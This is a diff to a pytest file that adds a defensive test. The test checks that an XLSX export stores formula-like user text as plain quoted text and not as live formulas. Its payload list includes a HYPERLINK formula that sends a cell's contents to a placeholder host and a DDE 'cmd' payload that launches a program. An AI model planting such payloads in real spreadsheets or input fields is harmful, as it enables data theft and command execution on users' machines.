@@ -129,6 +129,38 @@ def test_oiv_grid_xlsx_has_the_template_columns_and_the_ente_values(secretary_cl
     assert prizes[-1] == "Dati 2023 pubblicati in ritardo"
 
 
+# Texts a spreadsheet program would run as a formula (OWASP, CSV/formula injection).
+FORMULA_TEXTS = [
+    '=HYPERLINK("http://example.invalid/?q="&A2,"clic")',
+    "=cmd|' /C calc'!A0",
+    "+1+1",
+    "-2+3",
+    "@SUM(1,2)",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def test_oiv_grid_xlsx_writes_formula_like_texts_as_text(secretary_client, casorate):
+    organization = casorate.organization
+    organization.name = FORMULA_TEXTS[1]
+    organization.save(update_fields=["name"])
+    rows = list(AttestationGrid.objects.get(plan=casorate).rows.order_by("pk"))
+    for row, text in zip(rows, FORMULA_TEXTS, strict=False):
+        row.notes = text
+        row.save(update_fields=["notes"])
+    response = secretary_client.get(url(casorate, "oiv_xlsx"))
+    sheet = load_workbook(BytesIO(response.content)).active
+    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
+    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
+    texts = {cell.value: cell for cell in cells if isinstance(cell.value, str)}
+    for text in FORMULA_TEXTS:
+        assert texts[text].data_type == "s"
+    # quotePrefix: the program shows the text and keeps it text when the cell is edited.
+    assert all(texts[text].quotePrefix for text in FORMULA_TEXTS)
+    assert not texts["Codice fiscale"].quotePrefix
+
+
 @pytest.mark.parametrize(
     ("role", "expected"),
     [("evaluator", 200), ("admin", 200), ("secretary", 403), ("reader", 403), ("unit_head", 403)],
